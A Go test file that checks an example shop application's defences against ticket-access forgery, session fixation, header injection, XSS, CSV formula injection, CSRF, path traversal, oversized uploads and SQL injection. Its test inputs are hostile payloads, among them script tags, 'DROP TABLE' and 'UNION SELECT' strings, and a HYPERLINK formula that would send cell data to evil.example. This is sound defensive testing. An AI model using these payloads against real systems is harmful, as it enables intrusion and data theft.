package web_test

import (
	"bytes"
	"encoding/csv"
	"image"
	"image/color"
	"image/png"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kulanz-go/kulanz/examples/shop/app"
	"github.com/kulanz-go/kulanz/examples/shop/outbox"
	"github.com/kulanz-go/kulanz/examples/shop/store"
	"github.com/kulanz-go/kulanz/ticket"
)

// The numbers are those of the safety list.

// 1. Another customer's ticket, and one that does not exist, look the same.
func TestWhatIsAnothersIsNotThere(t *testing.T) {
	t.Parallel()
	s := open(t)
	mine, theirs := s.browser(), s.browser()
	p := s.write(mine, "eins@post.example", "Meine Sache")
	q := s.write(theirs, "zwei@post.example", "Ihre Sache")
	one, two := s.ticketOf(p), s.ticketOf(q)
	forged := one
	forged.Customer.Ref = two.Customer.Ref // a signed link of the shop's own, to another's ticket
	none := mine.get("/t/" + strings.Repeat("A", 90))
	require.Equal(t, http.StatusNotFound, none.code)
	paths := []string{
		"/t/" + s.app.TicketLink(forged),
		"/t/" + one.ID.String(), "/t/" + one.Number,
		"/t/" + s.app.Link(app.ForLogin, one.ID.String()+" "+one.Customer.Ref, 1e12),  // for something else
		"/t/" + s.app.Link(app.ForTicket, one.ID.String()+" "+one.Customer.Ref, -1e9), // expired
		"/survey/" + strings.Repeat("A", 40), "/in/x", "/withdrawal/receipt/" + strings.Repeat("0", 32),
	}
	for i, path := range paths {
		got := mine.get(path)
		assert.Equal(t, http.StatusNotFound, got.code, "%d", i)
		assert.Equal(t, none.body, got.body, "%d", i)
	}
	for _, act := range []string{"/write", "/solved", "/callback", "/person"} {
		assert.Equal(t, http.StatusNotFound, mine.post("/t/"+s.app.TicketLink(forged)+act, "key", "k", "text", "x", "solved", "yes").code, act)
	}
	// A file of another's ticket, under a link of one's own.
	up := theirs.upload(q.path+"/write", []string{"a.txt", "geheim"}, "key", "k")
	link := regexp.MustCompile(`/file/[0-9a-f]+`).FindString(up.body)
	require.NotEmpty(t, link, up.body)
	assert.Equal(t, http.StatusOK, theirs.get(q.path+link).code)
	assert.Equal(t, http.StatusNotFound, mine.get(p.path+link).code)
}

// 1. No page of the desk without a login, and none beyond one's role.
func TestTheDeskIsClosedToOthers(t *testing.T) {
	t.Parallel()
	s := open(t)
	for _, b := range []*browser{s.browser(), s.customer("c0001")} {
		for _, path := range []string{"/desk", "/desk/manage", "/desk/password"} {
			assert.Equal(t, "/desk/login", b.get(path).path)
		}
		assert.Equal(t, "/desk/login", b.post("/desk/password", "old", "x", "password", "y").path)
	}
	assert.Equal(t, http.StatusForbidden, s.as("bilal").get("/desk/manage").code)
}

// 1. A session that was planted before the login is worth nothing after it.
func TestLoginRenewsTheSession(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	b.post("/demo/as", "ref", "c0001")
	session := func() string {
		u, err := url.Parse(s.url)
		require.NoError(t, err)
		for _, c := range b.Jar.Cookies(u) {
			if c.Name == "session" {
				return c.Value
			}
		}
		return ""
	}
	before := session()
	b.post("/desk/login", "name", "anna", "password", agentPassword)
	assert.NotEmpty(t, before)
	assert.NotEqual(t, before, session())
}

// 2. A token with any bit changed is none.
func TestTokensAreSigned(t *testing.T) {
	t.Parallel()
	s := open(t)
	token := s.app.Link(app.ForTicket, "x y", 1e12)
	_, err := s.app.Opens(app.ForTicket, token)
	require.NoError(t, err)
	for i := range token {
		changed := []byte(token)
		changed[i] = map[bool]byte{true: 'B', false: 'A'}[changed[i] == 'A']
		if got, err := s.app.Opens(app.ForTicket, string(changed)); err == nil {
			assert.Equal(t, "x y", got, "only the unused bits at the end")
			assert.Equal(t, len(token)-1, i)
		}
	}
}

// 3. What is known goes to the mailbox alone: who types a customer's address sees
// nothing, and the mail quotes nothing.
func TestAStrangerSeesNothingOfACustomer(t *testing.T) {
	t.Parallel()
	s := open(t)
	known, err := s.db.Customer(t.Context(), "c0001")
	require.NoError(t, err)
	p := s.write(s.browser(), known.Email, "Ich bin es nicht")
	assert.Equal(t, "/contact", p.path)
	assert.NotContains(t, p.body, known.Name)
	mails := s.letters(new(post), known.Email)
	require.Len(t, mails, 1)
	assert.NotContains(t, mails[0], "Ich bin es nicht")
	assert.Contains(t, mails[0], "http://shop.test/t/")

	asked := s.browser().post("/my/link", "email", known.Email)
	unknown := s.browser().post("/my/link", "email", "niemand@post.example")
	assert.Equal(t, asked.body, unknown.body, "nobody learns who is a customer")
}

// 3. The link in a login mail acts by POST: scanners follow links.
func TestALoginLinkNeedsAClick(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	link := "/in/" + s.app.Link(app.ForLogin, "x c0001", 1e12)
	for range 2 {
		assert.Equal(t, http.StatusOK, b.get(link).code)
		assert.Contains(t, b.get("/my").body, "Link senden")
	}
	assert.Equal(t, "/my", b.post(link).path)
	assert.NotContains(t, b.get("/my").body, "Link senden")
	other := s.browser()
	assert.Equal(t, http.StatusNotFound, other.post(link).code, "it opens once")
	assert.Contains(t, other.get("/my").body, "Link senden")
	require.NoError(t, s.db.SweepLinks(t.Context(), friday.Add(time.Minute)))
	assert.Equal(t, http.StatusNotFound, other.post(link).code, "as long as it would open")
}

// 5. Nothing that anybody types ends a header field, of a mail or a page.
func TestHeadersCannotBeInjected(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	form := b.get("/withdrawal")
	evil := "x\r\nBcc: alle@post.example\r\n\r\nSpam"
	p := b.post("/withdrawal", "key", form.key(t), "name", evil, "order", "B-1\r\nBcc: a@b.example", "email", "erika@post.example")
	require.Equal(t, http.StatusOK, p.code)
	out := new(post)
	s.letters(out, "erika@post.example")
	require.Len(t, out.got, 1)
	head, _, _ := strings.Cut(string(out.got[0].Raw), "\r\n\r\n")
	assert.NotContains(t, head, "Bcc")
	assert.Equal(t, http.StatusUnprocessableEntity, s.write(b, "a@post.example\r\nBcc: b@post.example", "x").code)
	assert.Equal(t, http.StatusUnprocessableEntity, s.write(b, "a@post.example, b@post.example", "x").code)
	assert.Equal(t, "/", b.get("/language/en?back="+url.QueryEscape("/\r\nSet-Cookie: x=y")).path)
}

// 6. What customers write is text, wherever it is shown.
func TestScriptsAreText(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	const evil = `"><script>alert(1)</script><img src=x onerror=alert(1)>{{.Data}}`
	p := s.write(b, "neu@post.example", evil, "subject", evil, "name", evil, "order", evil)
	require.Equal(t, http.StatusOK, p.code, s.log.String())
	pages := []got{
		p, s.as("anna").get("/desk"), b.get("/?q=" + url.QueryEscape(evil)), b.get("/contact?order=" + url.QueryEscape(evil)),
		b.get("/withdrawal?order=" + url.QueryEscape(evil)), b.post("/contact", "text", evil, "email", evil), b.post("/desk/login", "name", evil),
	}
	for i, page := range pages {
		assert.NotContains(t, page.body, "<script>alert", "%d", i)
		assert.NotContains(t, page.body, "<img", "%d", i)
	}
	assert.Contains(t, p.body, "{{.Data}}", "a customer's text is never a template")
}

// 6. What customers type is no formula in a manager's spreadsheet.
func TestSheetsHoldNoFormulas(t *testing.T) {
	t.Parallel()
	s := open(t)
	const evil = `=HYPERLINK("http://evil.example?"&A1;"Rechnung")`
	one := s.ticketOf(s.write(s.browser(), "neu@post.example", "x", "subject", evil, "order", "@B-1"))
	p := s.as("anna").get("/desk/manage/tickets.csv")
	require.Equal(t, http.StatusOK, p.code, s.log.String())
	assert.Contains(t, p.header.Get("Content-Disposition"), "attachment")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.body, "\ufeff"))).ReadAll()
	require.NoError(t, err)
	at := slices.IndexFunc(rows, func(r []string) bool { return r[0] == one.Number })
	require.Positive(t, at)
	assert.Equal(t, "'"+evil, rows[at][6])
	assert.NotRegexp(t, `(?m)(^|[,;\t"])[=+@-]`, p.body)
	assert.NotContains(t, p.body, "neu@post.example", "customers are references")
	audits, err := s.db.Audits(t.Context(), 1<<62, 1)
	require.NoError(t, err)
	assert.Equal(t, "sheet", audits[0].What)
}

// 6. Every page is strict with the browser.
func TestPagesAllowNothingFromElsewhere(t *testing.T) {
	t.Parallel()
	s := open(t)
	for _, path := range []string{"/", "/contact", "/desk/login", "/nothing", "/static/style.css", "/metrics"} {
		p := s.browser().get(path)
		csp := p.header.Get("Content-Security-Policy")
		assert.Contains(t, csp, "default-src 'none'", path)
		assert.NotContains(t, csp, "unsafe", path)
		assert.Contains(t, csp, "frame-ancestors 'none'", path)
		assert.Equal(t, "nosniff", p.header.Get("X-Content-Type-Options"), path)
		assert.Equal(t, "no-referrer", p.header.Get("Referrer-Policy"), path)
		for _, link := range regexp.MustCompile(`(?:src|href|action)="([^"]*)"`).FindAllStringSubmatch(p.body, -1) {
			assert.True(t, strings.HasPrefix(link[1], "/") || strings.HasPrefix(link[1], "#"), "%s: %s", path, link[1])
		}
		assert.NotRegexp(t, `style="|<style|<script>| on[a-z]+="`, p.body, path)
	}
}

// CSRF: what another site's page sends is not done.
func TestOtherSitesCannotAct(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.as("anna")
	for _, h := range []http.Header{{"Sec-Fetch-Site": {"cross-site"}}, {"Origin": {"https://evil.example"}}, {"Sec-Fetch-Site": {"same-site"}}} {
		req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+"/desk/logout", nil)
		require.NoError(t, err)
		req.Header = h
		assert.Equal(t, http.StatusForbidden, b.do(req).code)
	}
	assert.Equal(t, "/desk", b.get("/desk").path, "still signed in")
}

// 7. Everything from outside has a bound.
func TestUploadsHaveBounds(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	send := func(files ...string) int {
		return b.upload("/contact", files, "key", "k", "email", "neu@post.example", "text", "x", "asked", "1").code
	}
	large := strings.Repeat("x", 5<<20+1)
	assert.Equal(t, http.StatusRequestEntityTooLarge, send("a.txt", large))
	assert.Equal(t, http.StatusRequestEntityTooLarge, send("a.txt", "1", "b.txt", "2", "c.txt", "3", "d.txt", "4"))
	assert.Equal(t, http.StatusRequestEntityTooLarge, send("a", large, "b", large, "c", large, "d", large))
	assert.Equal(t, http.StatusRequestEntityTooLarge, b.post("/contact", "text", strings.Repeat("x", 100_000)).code)
	for _, evil := range []string{
		"<html><script>alert(1)</script>", "MZ\x90\x00", "PK\x03\x04zip", "\x89PNG\r\n\x1a\nbroken", "GIF89a",
	} {
		assert.Equal(t, http.StatusUnprocessableEntity, send("picture.png", evil), "%q", evil)
	}
	p := b.upload("/contact", []string{"a.svg", "<svg onload='alert(1)'/>"}, "key", "k2", "email", "neu@post.example", "text", "x", "asked", "1")
	f := b.get(regexp.MustCompile(`/t/[^"]+/file/[0-9a-f]+`).FindString(p.body))
	assert.Equal(t, "attachment; filename=a.txt", f.header.Get("Content-Disposition"), "what is text is a text to be downloaded")
	assert.Contains(t, f.header.Get("Content-Security-Policy"), "sandbox")
}

// Pictures are painted anew: what was hidden in them is gone.
func TestPicturesLoseWhatIsHiddenInThem(t *testing.T) {
	t.Parallel()
	s := open(t)
	var picture bytes.Buffer
	canvas := image.NewRGBA(image.Rect(0, 0, 4, 4))
	canvas.Set(1, 1, color.RGBA{R: 200, A: 255})
	require.NoError(t, png.Encode(&picture, canvas))
	hidden := picture.String() + "<script>GPS 51.5N</script>"
	b := s.browser()
	p := b.upload("/contact", []string{"foto.exe", hidden}, "key", "k", "email", "neu@post.example", "text", "x", "asked", "1")
	require.Equal(t, http.StatusOK, p.code, s.log.String())
	f := b.get(regexp.MustCompile(`/t/[^"]+/file/[0-9a-f]+`).FindString(p.body))
	assert.NotContains(t, f.body, "GPS")
	assert.Contains(t, f.header.Get("Content-Disposition"), "foto.png")
	back, err := png.Decode(strings.NewReader(f.body))
	require.NoError(t, err)
	r, _, _, _ := back.At(1, 1).RGBA()
	assert.Equal(t, uint32(200*257), r)
}

// Paths lead to nothing but what is meant to be seen.
func TestPathsCannotLeaveTheirFolder(t *testing.T) {
	t.Parallel()
	s := open(t)
	for _, path := range []string{
		"/static/../server.go", "/static/%2e%2e/server.go", "/static/..%2fserver.go", "/static/", "/static/../../shop.db", "/static/%00",
		"/t/x/file/..%2f..%2fshop.db", "/withdrawal/receipt/..%2f..%2fx",
	} {
		req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, s.url, nil)
		require.NoError(t, err)
		req.URL.Opaque = path // as it stands
		res, err := http.DefaultTransport.RoundTrip(req)
		require.NoError(t, err)
		body, err := io.ReadAll(res.Body)
		require.NoError(t, err)
		require.NoError(t, res.Body.Close())
		assert.NotEqual(t, http.StatusOK, res.StatusCode, path)
		assert.NotContains(t, string(body), "package web", path)
	}
}

// What looks like SQL is text.
func TestStatementsAreText(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	before, err := s.db.Customers(t.Context(), 1000)
	require.NoError(t, err)
	for _, evil := range []string{`'; DROP TABLE shop_customer; --`, `' OR '1'='1`, `" OR ""="`, `%' UNION SELECT hash FROM shop_agent --`, `\'; --`} {
		assert.Equal(t, http.StatusUnauthorized, b.post("/desk/login", "name", evil, "password", evil).code)
		assert.Equal(t, http.StatusNotFound, b.post("/demo/as", "ref", evil).code)
		assert.Equal(t, http.StatusNotFound, b.get("/withdrawal/receipt/"+url.PathEscape(evil)).code)
		p := s.write(b, "neu@post.example", evil, "subject", evil, "order", evil)
		require.Less(t, p.code, http.StatusInternalServerError, s.log.String())
	}
	after, err := s.db.Customers(t.Context(), 1000)
	require.NoError(t, err)
	assert.Len(t, after, len(before)+1, "the guest alone")
}

// 8. Whatever a form holds, the answer is a page, never a fault of the program.
func TestHostileFormsAreAnswered(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	path := s.write(b, "neu@post.example", "x").path
	for _, evil := range []string{"\x00", "\xff\xfe", strings.Repeat("a", 30_000), "\u202eabc", "🏕", "\r\n", "-1", "1e309", "null"} {
		for _, to := range []string{"/contact", "/withdrawal", "/withdrawal/check", "/review", path + "/write", path + "/callback", path + "/solved", "/my/link", "/desk/login", "/demo/as"} {
			p := b.post(to, "key", evil, "email", "neu@post.example", "name", evil, "text", evil, "subject", evil, "order", evil, "reason", evil, "from", evil,
				"about", evil, "stars", evil, "line", evil, "solved", evil, "ref", evil, "asked", "1", "password", evil)
			assert.Less(t, p.code, http.StatusInternalServerError, "%s %.20q\n%s", to, evil, s.log.String())
		}
	}
}

// 9. Neither logs nor figures hold anybody's words, names, addresses or tokens.
func TestLogsAndFiguresNameNobody(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	p := s.write(b, "geheim@post.example", "Ein Geheimnis", "subject", "Vertraulich", "order", "B-99871")
	b.get(p.path)
	b.post("/desk/login", "name", "geheimniskraemer", "password", "passwort-im-log")
	b.get("/?q=Suchwort")
	one := s.ticketOf(p)
	metrics := b.get("/metrics").body
	for _, secret := range []string{
		"geheim", "Geheimnis", "Vertraulich", "B-99871", "passwort-im-log", "Suchwort", strings.TrimPrefix(p.path, "/t/"), one.ID.String(), one.Customer.Ref, "127.0.0.1",
	} {
		assert.NotContains(t, s.log.String(), secret)
		assert.NotContains(t, metrics, secret)
	}
	assert.Contains(t, metrics, `shop_http_requests_total{code="200",pattern="GET /t/{token}"}`)
}

// 10. A form that is sent twice counts once.
func TestAFormSentTwiceCountsOnce(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	p := s.write(b, "neu@post.example", "Einmal")
	one := s.ticketOf(p)
	for range 2 {
		b.post(p.path+"/write", "key", "same", "text", "Noch etwas")
	}
	assert.Equal(t, 2, s.ticketOf(p).Counters.Contacts)
	assert.Equal(t, one.ID, s.ticketOf(p).ID)
}

// 11. Erasure reaches the ticket, its files, letters and the customer's row.
func TestErasureReachesTheShopsOwnTables(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.browser()
	p := b.upload("/contact", []string{"a.txt", "siehe oben"}, "key", "k", "email", "weg@post.example", "text", "Bitte vergessen", "asked", "1")
	one := s.ticketOf(p)
	var file string
	for e, err := range s.app.Tickets.History(t.Context(), app.System(), one.Ref()) {
		require.NoError(t, err)
		if m := e.Message(); m != nil && len(m.Attachments) > 0 {
			file = m.Attachments[0].Ref
		}
	}
	_, err := s.app.Tickets.Erase(t.Context(), app.System(), one.Customer.Ref)
	require.NoError(t, err)
	require.NoError(t, s.db.EraseCustomer(t.Context(), one.Customer.Ref))
	_, err = s.db.File(t.Context(), file)
	require.ErrorIs(t, err, store.ErrNotFound)
	_, err = s.db.CustomerByEmail(t.Context(), "weg@post.example")
	require.ErrorIs(t, err, store.ErrNotFound)
	assert.Equal(t, http.StatusNotFound, b.get(p.path).code)
	gone, err := s.app.Tickets.Get(t.Context(), app.System(), one.Ref())
	require.NoError(t, err)
	assert.Equal(t, ticket.StateErased, gone.State, "the tombstone stays")
}

// 11. Erasure reaches the mail as it came, and the files of it, and nobody else's.
func TestErasureReachesMailAsItCame(t *testing.T) {
	t.Parallel()
	s := open(t)
	ctx := t.Context()
	for _, who := range []string{"weg", "bleibt"} {
		raw := "From: " + who + "@post.example\r\nMessage-ID: <" + who + "@post.example>\r\nSubject: Hut\r\n\r\nBitte vergessen\r\n"
		_, err := s.mail.Put(who+".eml", []byte(raw))
		require.NoError(t, err)
	}
	require.NoError(t, s.app.Mailbox(s.mail, slog.New(slog.DiscardHandler)).Sweep(ctx))
	work, err := s.app.Background(new(post), new(outbox.FakeGateway))
	require.NoError(t, err)
	require.NoError(t, work.Start(ctx))
	known, err := s.db.CustomerByEmail(ctx, "weg@post.example")
	require.NoError(t, err)
	p := s.as("esra").post("/desk/privacy/erase", "customer", known.Ref, "sure", "yes")
	require.Equal(t, http.StatusOK, p.code, s.log.String())
	there := func(name string) bool {
		has, err := s.mail.Has(name)
		require.NoError(t, err)
		return has
	}
	require.Eventually(t, func() bool { return !there("weg.eml") }, 20*time.Second, 20*time.Millisecond)
	require.NoError(t, work.Stop(ctx))
	assert.True(t, there("bleibt.eml"))
}

// Every place that the page about the demands names is there.
func TestDemandsLeadSomewhere(t *testing.T) {
	t.Parallel()
	s := open(t)
	b := s.as("esra")
	p := b.get("/about")
	assert.Equal(t, 32, strings.Count(p.body, "<li>"))
	links := regexp.MustCompile(`href="(/[^"]*)"`).FindAllStringSubmatch(p.body, -1)
	slices.SortFunc(links, func(a, b []string) int { return strings.Compare(a[1], b[1]) })
	for _, l := range slices.CompactFunc(links, func(a, b []string) bool { return a[1] == b[1] }) {
		assert.Equal(t, http.StatusOK, b.get(l[1]).code, l[1])
	}
}
